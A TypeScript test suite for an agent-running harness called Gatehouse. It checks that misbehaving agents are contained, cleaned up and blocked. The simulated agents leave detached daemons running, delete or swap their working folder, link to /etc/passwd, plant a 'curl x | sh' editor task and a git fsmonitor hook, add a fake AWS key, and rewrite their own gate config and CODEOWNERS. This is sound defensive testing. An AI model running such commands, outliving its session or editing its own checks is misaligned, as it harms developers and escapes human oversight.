/** Agents that fail, hang on, make a mess or propose what may not be proposed: judged by their tree, and nothing is left. */

import { dirname } from "node:path";
import { describe, expect, it } from "vitest";
import { openChannel, searchPath } from "../channel.ts";
import type { ForgeOptions } from "../forge/options.ts";
import type { Files } from "../forge/repository.ts";
import { textsBelow } from "../runner/traces.ts";
import { label, shop, shopForge } from "./labelled.ts";
import { type End, expectEnd, kept } from "./setup.ts";

const branch = "agent/issue-1-greet-the-customers";
const proposed: End = {
  outcome: "proposed",
  reason: "pull request #2 was opened; the gate is green on exactly its head",
  issue: { labels: ["agent:proposed"], says: ["**Proposed in #2.**"] },
  branches: [branch],
  pulls: 1,
};
const writesHello = "echo hello > hello.txt";

function handedOver(outcome: string, reason: string, ...says: readonly string[]): End {
  return { outcome, reason, issue: { labels: ["agent:needs-human"], says } };
}

function withFiles(files: Files): ForgeOptions {
  return { files: { ...shop, ...files } };
}

async function changedPaths(forge: Awaited<ReturnType<typeof shopForge>>): Promise<string[]> {
  const before = new Set((await forge.repository.tree("main")).map(({ path, sha }) => `${path} ${sha}`));
  const after = await forge.repository.tree(branch);
  return after.filter(({ path, sha }) => !before.has(`${path} ${sha}`)).map(({ path }) => path);
}

describe.concurrent("an agent that cannot be started", () => {
  it("because there is no such command", async () => {
    await using forge = await shopForge();
    await using run = await label(forge, "no-such-agent --print");
    const reason =
      "The agent's command could not be started (exit 127): `no-such-agent --print`. Install the agent in a step before this one, and check the command's spelling";
    await expectEnd(run, forge, handedOver("error", reason, "**This could not be done.**", "exit 127"));
    expect(run.log).toContain("no-such-agent: command not found");
  });

  it("because the one that was named is not installed", async () => {
    await using forge = await shopForge();
    await using run = await label(forge, "", {
      inputs: { agent: "codex", "agent-command": "" },
      env: { PATH: "/usr/bin:/bin", OPENAI_API_KEY: "a-key-that-is-never-used" },
    });
    const reason =
      "The agent `codex` could not be started (exit 127). Install it in a step before this one: `npm install --global @openai/codex@0.169.0`";
    await expectEnd(run, forge, handedOver("error", reason, "**This could not be done.**", "@openai/codex"));
  });

  it("because it is not executable", async () => {
    await using forge = await shopForge(withFiles({ "agent.sh": "#!/bin/sh\necho hello > hello.txt\n" }));
    await using run = await label(forge, "./agent.sh");
    const reason =
      "The agent's command could not be started (exit 126): `./agent.sh`. Install the agent in a step before this one, and check the command's spelling";
    await expectEnd(run, forge, handedOver("error", reason, "**This could not be done.**", "exit 126"));
  });
});

describe.concurrent("an agent is judged by its tree, not by how it ends", () => {
  it.each(["exit 1", "no-such-command", "sh -c 'kill -SEGV $$'"])(
    "proposes what it changed before `%s`",
    async (end) => {
      await using forge = await shopForge();
      await using run = await label(forge, `${writesHello}; ${end}`);
      await expectEnd(run, forge, proposed);
      expect(await changedPaths(forge)).toEqual(["hello.txt"]);
    },
  );

  it.each([
    ["exits 0", "echo 'I have done all that was asked for.'", "the agent changed nothing"],
    ["exits 3", "exit 3", "the agent changed nothing (exit 3)"],
    ["is killed", "kill -KILL $$", "the agent changed nothing (killed by SIGKILL)"],
    ["takes its change back", `${writesHello}; rm hello.txt`, "the agent changed nothing"],
    ["changes only what is ignored", "mkdir out; echo x > out/x", "the agent changed nothing"],
    ["writes an empty folder", "mkdir empty", "the agent changed nothing"],
    [
      "commits instead of leaving files",
      "git commit -q --allow-empty -m done 2>&1 || true",
      "the agent changed nothing",
    ],
  ])("has changed nothing when it %s without a change", async (_how, agent, reason) => {
    await using forge = await shopForge(withFiles({ ".gitignore": "out/\n" }));
    await using run = await label(forge, agent);
    await expectEnd(run, forge, handedOver("no-change", reason, "**Nothing was changed.**"));
    expect(run.outputs.patch).toBe("");
  });

  it("never proposes what an agent left that was killed in the middle", async () => {
    await using forge = await shopForge();
    await using run = await label(forge, `${writesHello}; kill -KILL $$`, {
      inputs: { "max-attempts": "1" },
    });
    const reason = "the agent did not finish (killed by SIGKILL) and only one attempt is allowed";
    await expectEnd(run, forge, handedOver("refused", reason, "agent killed by SIGKILL", "attempt-1.patch"));
    expect(await kept(run, "attempt-1.patch")).toContain("+hello");
  });

  it("tries once more after a kill, and takes what is whole then", async () => {
    await using forge = await shopForge();
    const agent = `if test -e half.txt; then mv half.txt hello.txt; else echo hello > half.txt; kill -KILL $$; fi`;
    await using run = await label(forge, agent);
    await expectEnd(run, forge, proposed);
    expect(await changedPaths(forge)).toEqual(["hello.txt"]);
    expect(run.outputs.attempts).toBe("2");
  });

  it("says nothing of an agent that says nothing", async () => {
    await using forge = await shopForge();
    await using run = await label(forge, writesHello);
    await expectEnd(run, forge, proposed);
    expect((await forge.state()).pulls[0]?.body).not.toContain("What the agent said");
  });
});

describe.concurrent("an agent that floods the log", () => {
  const flood = (filter: string) => `head -c 100000000 /dev/zero | ${filter}; echo; echo the end`;
  it.each([
    ["in lines", "tr '\\0' x | fold -w 200", /^│ … [\d,]+ more lines \([\d,]+ characters\) left out/m],
    ["in one line", "tr '\\0' x", /^│ x+…? ?\[?[^x]+$/m],
    ["in bytes that are no text", "tr '\\0' '\\377'", /^│ \ufffd+…? ?\[?[^\ufffd]+$/m],
  ])("with 100 MB %s", async (_how, filter, cut) => {
    await using forge = await shopForge();
    await using run = await label(forge, `${writesHello}; ${flood(filter)}`);
    await expectEnd(run, forge, proposed);
    expect(run.log.length).toBeLessThan(5_000_000);
    expect(run.log).toMatch(cut);
    expect((await forge.state()).pulls[0]?.body.length).toBeLessThan(20_000);
  });

  it("and its last words are shown all the same", async () => {
    await using forge = await shopForge();
    await using run = await label(forge, `${writesHello}; yes | head -c 6000000; echo the end`);
    await expectEnd(run, forge, proposed);
    expect(run.log).not.toContain("the end");
    expect((await forge.state()).pulls[0]?.body).toContain("the end");
  });
});

describe.concurrent("an agent that leaves something running", () => {
  /** A program that holds a pipe of the outside open; then the agent goes on. */
  const daemon = (pipe: string, how: string, does = "exec sleep 600") =>
    `${how} sh -c 'trap "" TERM INT HUP; exec 9<> ${pipe}; echo started > ${inBox}; ${does}' < /dev/null > /dev/null 2>&1 &\nwhile ! test -s ${inBox}; do :; done; echo "the daemon runs"`;
  const inBox = "/tmp/started";
  /** A check that is red while somebody reads the pipe. */
  const isGone = (pipe: string) => `perl -e 'exit(sysopen(my $file, $ARGV[0], 1 | 2048) ? 1 : 0)' ${pipe}`;

  it.each([
    ["in the background", (pipe: string) => daemon(pipe, "")],
    ["in a session of its own", (pipe: string) => daemon(pipe, "setsid")],
    ["twice forked", (pipe: string) => `(${daemon(pipe, "setsid -f")})`],
    ["holding our pipe", (pipe: string) => daemon(pipe, "setsid").replace("> /dev/null 2>&1", "")],
    [
      "without a trace of its parent",
      (pipe: string) => daemon(pipe, "setsid -f env -i", "cd /; exec sleep 600"),
    ],
    [
      "that starts programs again and again",
      (pipe: string) => daemon(pipe, "setsid", "while :; do sleep 0.01; done"),
    ],
  ])("%s: it is gone before the gate begins", async (_how, leave) => {
    await using channel = await openChannel();
    const pipe = channel.pipe("alive");
    await using forge = await shopForge();
    const gate = `test ! -e hello.txt || { ${isGone(pipe)}; }`;
    await using run = await label(forge, `${writesHello}\n${leave(pipe)}\necho ok`, {
      inputs: { gate },
      env: { PATH: searchPath(channel) },
    });
    expect(run.log).toContain("│ the daemon runs\n");
    await expectEnd(run, forge, proposed);
  });

  it("is seen by that check while it lives", async () => {
    await using channel = await openChannel();
    const pipe = channel.pipe("alive");
    await using forge = await shopForge();
    const agent = `${daemon(pipe, "setsid")}\n${isGone(pipe)} || echo it lives`;
    await using run = await label(forge, agent, { env: { PATH: searchPath(channel) } });
    expect(run.log).toContain("│ it lives\n");
  });

  it("that goes on writing into its tree", async () => {
    await using forge = await shopForge();
    const writer = `setsid -f sh -c 'trap "" TERM; while :; do echo evil >> sum.sh; done' < /dev/null > /dev/null 2>&1`;
    await using run = await label(
      forge,
      `${writesHello}; ${writer}; while ! grep -q evil sum.sh; do :; done; git checkout -q sum.sh 2>/dev/null || true`,
    );
    // What it wrote before the end is its change; what matters is that nothing writes any more when the tree is read.
    expect(run.outputs.outcome).not.toBe("error");
    expect(run.processesLeft).toEqual([]);
    expect(run.summary).not.toContain("it changed while it was read");
  });

  it("when the run is cancelled", async () => {
    await using forge = await shopForge();
    const leave = daemon("/dev/null", "setsid");
    const agent = `${leave}\ntrap '' TERM INT; ${writesHello}; echo ready; sleep 600`;
    await using run = await label(forge, agent, { signals: [{ name: "SIGINT", when: /│ ready/ }] });
    await expectEnd(run, forge, handedOver("cancelled", "the run was cancelled", "**Cancelled.**"));
  });
});

describe.concurrent("an agent that damages its room", () => {
  it.each([
    ["deletes the folder of its tree", 'd=$PWD; cd /; rm -rf "$d" || echo "it stands"'],
    ["puts another folder in its place", 'd=$PWD; cd /; mv "$d" "$d.old" || echo "it stands"'],
    ["puts a link in its place", 'd=$PWD; cd /; rm -rf "$d" || ln -sT /etc "$d" || echo "it stands"'],
  ])("and %s cannot: it is a mount", async (_how, agent) => {
    await using forge = await shopForge();
    await using run = await label(forge, agent);
    expect(run.log).toContain("│ it stands\n");
    expect(run.outputs.outcome).toMatch(/^(blocked|no-change)$/);
    expect(forge.pushes()).toEqual([]);
  });

  it("and deletes all files is blocked by what it deleted", async () => {
    await using forge = await shopForge();
    await using run = await label(forge, "find . -mindepth 1 -delete");
    await expectEnd(
      run,
      forge,
      handedOver(
        "blocked",
        "guards stopped the change for 2 reasons",
        "The change deletes a protected path: Gatehouse itself is configured by it (`.github/gatehouse.yml`)",
        "The change deletes a protected path: agents take it for instructions, and so would the next one (`AGENTS.md`)",
      ),
    );
  });

  it("and leaves folders outside of the tree that nobody may enter or write is proposed, and they are gone", async () => {
    await using forge = await shopForge();
    const cache = 'mkdir -p "$HOME/a/b" "$TMPDIR/mod/x"; echo x > "$HOME/a/b/c"; echo x > "$TMPDIR/mod/x/y"';
    await using run = await label(
      forge,
      `${writesHello}; ${cache}; chmod 000 "$HOME/a/b" "$HOME/a"; chmod -R a-w "$TMPDIR/mod"`,
    );
    await expectEnd(run, forge, proposed);
  });

  const isRoot = process.getuid?.() === 0;
  it.skipIf(isRoot)("and makes a folder of the tree unreadable is blocked", async () => {
    await using forge = await shopForge();
    await using run = await label(forge, `${writesHello}; mkdir -p a/b; echo x > a/b/c; chmod 000 a/b a`);
    await expectEnd(
      run,
      forge,
      handedOver(
        "blocked",
        "a guard stopped the change",
        "the folder cannot be read (`a`). Give its owner the right to read it.",
      ),
    );
  });

  it.skipIf(isRoot)("and makes the tree itself unreadable is blocked", async () => {
    await using forge = await shopForge();
    await using run = await label(forge, `${writesHello}; chmod 000 .`);
    await expectEnd(run, forge, handedOver("blocked", "a guard stopped the change", "cannot be read"));
  });
});

describe.concurrent("a change that may not be proposed is blocked, in words", () => {
  const submodule = withFiles({
    ".gitmodules": '[submodule "lib"]\n\tpath = lib\n\turl = https://example.com/lib\n',
    lib: { content: "4b825dc642cb6eb9a060e54bf8d69288fbee4904", mode: "160000" },
  });
  const lfs = withFiles({
    ".gitattributes": "*.bin filter=lfs diff=lfs merge=lfs -text\n",
    "a.bin": `version https://git-lfs.github.com/spec/v1\noid sha256:${"4d7a2146".repeat(8)}\nsize 12345\n`,
  });
  const cases: [name: string, forge: ForgeOptions, agent: string, says: string][] = [
    [
      "in a submodule",
      submodule,
      "echo x > lib/x",
      "the content of a submodule was changed, and changes to submodules are not supported yet (`lib`). Leave the submodule's folder empty, and propose the change in the submodule's own repository.",
    ],
    [
      "a file in Git LFS",
      lfs,
      "printf content > a.bin",
      "it was changed, and files kept in Git LFS are not supported yet (`a.bin`).",
    ],
    [
      "a new file for Git LFS",
      lfs,
      "printf content > b.bin",
      "it was changed, and files kept in Git LFS are not supported yet (`b.bin`).",
    ],
    [
      "a repository in the tree",
      {},
      "git init -q sub 2>&1; echo x > sub/x",
      "a git repository lies inside the tree (`sub/.git`).",
    ],
    [
      "a file that points to a repository",
      {},
      "mkdir sub; echo 'gitdir: /etc' > sub/.git",
      "a git repository lies inside the tree (`sub/.git`).",
    ],
    [
      "another spelling of .git",
      {},
      "mkdir -p a/.GIT; echo x > a/.GIT/config",
      "some systems take this name for",
    ],
    [
      "a link that leaves the tree",
      {},
      "ln -s ../../../../etc/passwd leak",
      "the link leads out of the tree (`leak`). Let links lead to files of the tree, by relative paths.",
    ],
    ["an absolute link", {}, "ln -s /etc/passwd leak", "the link leads to an absolute path (`leak`)."],
    [
      "a pipe",
      {},
      "mkfifo pipe",
      "it is a pipe, socket or device (`pipe`). Remove it; only files and links can be proposed.",
    ],
    [
      "a protected path",
      {},
      "echo '* @mallory' > CODEOWNERS",
      "The change adds a protected path: it says who must review or approve (`CODEOWNERS`). Leave the path as it is in the base;",
    ],
    [
      "what a protected path is a link to",
      {
        files: {
          ...shop,
          ".vscode": { mode: "120000", content: "tools/editor" },
          "tools/editor/tasks.json": '{ "tasks": [] }\n',
        },
      },
      'echo \'{ "tasks": [{ "command": "curl x | sh" }] }\' > tools/editor/tasks.json',
      'The change changes what the protected path ".vscode/tasks.json" is a link to: it starts programs on a developer\'s machine (`tools/editor/tasks.json`).',
    ],
    [
      "its own gate",
      {},
      "echo 'gate: [\"true\"]' > .github/gatehouse.yml",
      "The change changes a protected path: Gatehouse itself is configured by it (`.github/gatehouse.yml`).",
    ],
    [
      "a key that somebody could use",
      {},
      "printf 'aws_secret_access_key = %s%s\\n' wJalrXUtnFEMI/K7MDENG/ bPxRfiCYzzzzzzKEYa > settings.ini",
      "An added line holds what looks like an AWS secret access key (`settings.ini`, line 1). Take it out and have it revoked if it is real;",
    ],
    [
      "a character that nobody sees",
      {},
      "printf 'hel\\342\\200\\213lo\\n' > hello.txt",
      "Added lines hold characters that cannot be seen (U+200B), here for the first time (`hello.txt`, line 1).",
    ],
  ];
  it.each(cases)("%s", async (_name, forgeOptions, agent, says) => {
    await using forge = await shopForge(forgeOptions);
    await using run = await label(forge, `${agent}; ${writesHello.replace("hello.txt", "other.txt")}`);
    await expectEnd(
      run,
      forge,
      handedOver("blocked", "a guard stopped the change", "**No proposal.**", says),
    );
    expect(run.summary).toContain(says);
  });

  it("a key, which is in no file of the record, since others may read that among the run's artifacts", async () => {
    await using forge = await shopForge();
    await using run = await label(
      forge,
      "printf 'aws_secret_access_key = %s%s\\n' wJalrXUtnFEMI/K7MDENG/ bPxRfiCYzzzzzzKEYa > settings.ini",
    );
    await expectEnd(
      run,
      forge,
      handedOver("blocked", "a guard stopped the change", "is not kept, because of the secret in it."),
    );
    expect(run.outputs.patch).toBe("");
    const record = await textsBelow(dirname(run.outputs.journal ?? ""));
    expect(Object.keys(record).sort()).toEqual(["brief-1.md", "journal.jsonl", "report.md"]);
    expect(Object.values(record).join("\n")).not.toContain("bPxRfiCYzzzzzzKEYa");
  });

  it("but a repository with a submodule and files in Git LFS that are left alone can be worked on", async () => {
    await using forge = await shopForge({ files: { ...submodule.files, ...lfs.files } });
    await using run = await label(forge, writesHello);
    await expectEnd(run, forge, proposed);
    expect(await changedPaths(forge)).toEqual(["hello.txt"]);
  });

  it("and the agent's own repository in the root is thrown away unread", async () => {
    await using forge = await shopForge();
    const own =
      "rm -rf .git; git init -q . 2>&1; git config core.fsmonitor 'touch ran; false'; git config core.hooksPath .";
    await using run = await label(forge, `${own}; ${writesHello}`);
    await expectEnd(run, forge, proposed);
    expect(await changedPaths(forge)).toEqual(["hello.txt"]);
  });
});
